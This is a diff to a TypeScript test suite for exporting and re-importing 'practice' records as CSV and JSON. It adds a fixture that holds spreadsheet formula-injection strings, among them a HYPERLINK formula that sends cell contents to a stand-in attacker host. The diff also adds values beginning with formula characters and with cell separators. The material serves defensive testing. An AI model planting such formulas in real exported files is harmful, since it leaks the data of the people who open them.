@@ -7,11 +7,13 @@ import { aPartner, anOrganisation, valueOf } from '../../core/testing/factories.
 import { readPage } from '../../core/testing/http.js';
 import { useWorld } from '../../core/testing/world.js';
 import { practiceSchema } from './schema.js';
-import { changeStatus, createPractice, proposePractice, type TransitionName } from './service.js';
+import { changeStatus, createPractice, getPractice, proposePractice, type TransitionName } from './service.js';
+import { practiceFormValues } from './views/PracticeFormPage.js';
 
 const fixture = useWorld();
+let hostileId = 0;
 
-function practice(title: string, ownerPartnerId: number) {
+function practice(title: string, ownerPartnerId: number, overrides: Record<string, unknown> = {}) {
   return practiceSchema.parse({
     ownerPartnerId: String(ownerPartnerId),
     ownerOrganisationId: '',
@@ -26,6 +28,7 @@ function practice(title: string, ownerPartnerId: number) {
     contactName: 'Projects office',
     contactEmail: 'projects@example.org',
     title_it: `${title} (italiano)`,
+    ...overrides,
   });
 }
 
@@ -44,6 +47,17 @@ beforeAll(async () => {
   const declined = valueOf(await proposePractice(db, users.stakeholderA.actor, practice('Roundtrip declined', partnerA.id)));
   valueOf(await changeStatus(db, users.coordinator.actor, declined.id, 'decline'));
   valueOf(await createPractice(db, users.coordinator.actor, practice('Roundtrip of the second partner', partnerB.id)));
+  // Texts a spreadsheet would run as formulas, and texts already starting with the apostrophe that neutralises them.
+  const hostile = practice('=HYPERLINK("http://evil.example/?d="&A1,"Roundtrip")', partnerB.id, {
+    summary: "'=1+1 is how a formula starts; '' too",
+    objective: '@everyone -2+3',
+    contactName: '+Projects office',
+    title_it: "''=Roundtrip",
+    // Lists whose items hold the separators a cell is read with.
+    keywords: ['e-government, open government', 'smart city; data', 'roundtrip', 'C:\\back\\slash'],
+    links: ['https://example.org/page;jsessionid=1', 'https://example.org/a,b'],
+  });
+  hostileId = valueOf(await createPractice(db, users.coordinator.actor, hostile)).id;
 
   // The other programme has partners (and a stakeholder organisation) with the same names.
   const twinA = await aPartner(db, otherProgramme.id, { name: partnerA.name, shortName: partnerA.shortName });
@@ -76,13 +90,24 @@ describe("re-importing the coordinator's export into another programme", () => {
   it.each(['csv', 'json'] as const)('brings back every practice from the %s file with its status and fields', async (format) => {
     await clearOtherProgramme();
     const original = await exportedRecords('coordinator');
-    expect(original.map((record) => record.status)).toEqual(['declined', 'draft', 'draft', 'proposed', 'published', 'returned', 'submitted']);
+    expect(original.map((record) => record.status)).toEqual(['draft', 'declined', 'draft', 'draft', 'proposed', 'published', 'returned', 'submitted']);
+    expect(original[0]).toMatchObject({ title: '=HYPERLINK("http://evil.example/?d="&A1,"Roundtrip")', summary: "'=1+1 is how a formula starts; '' too", keywords: ['e-government, open government', 'smart city; data', 'roundtrip', 'C:\\back\\slash'] });
 
     const importer = await fixture.browserFor('otherCoordinator');
     const upload = { file: { filename: `library.${format}`, content: await exported('coordinator', format), contentType: format === 'csv' ? 'text/csv' : 'application/json' } };
     const page = readPage(await importer.upload('/practices/import', upload, { programmeId: String(fixture.world.otherProgramme.id) }));
-    expect(page.screen.getByRole('heading', { level: 1 }).textContent).toBe('7 practices imported');
+    expect(page.screen.getByRole('heading', { level: 1 }).textContent).toBe('8 practices imported');
 
     expect(await exportedRecords('otherCoordinator')).toEqual(original);
+  });
+});
+
+describe('editing a practice in the form', () => {
+  it('keeps a keyword that holds a comma, and a link that holds a semicolon, as one', async () => {
+    const practice = await getPractice(fixture.context.db, fixture.world.users.coordinator.actor, hostileId);
+    if (!practice) throw new Error('the practice is missing');
+    const input = practiceSchema.parse(practiceFormValues(practice));
+    expect(input.keywords).toEqual(practice.keywords);
+    expect(input.links).toEqual(practice.links);
   });
 });
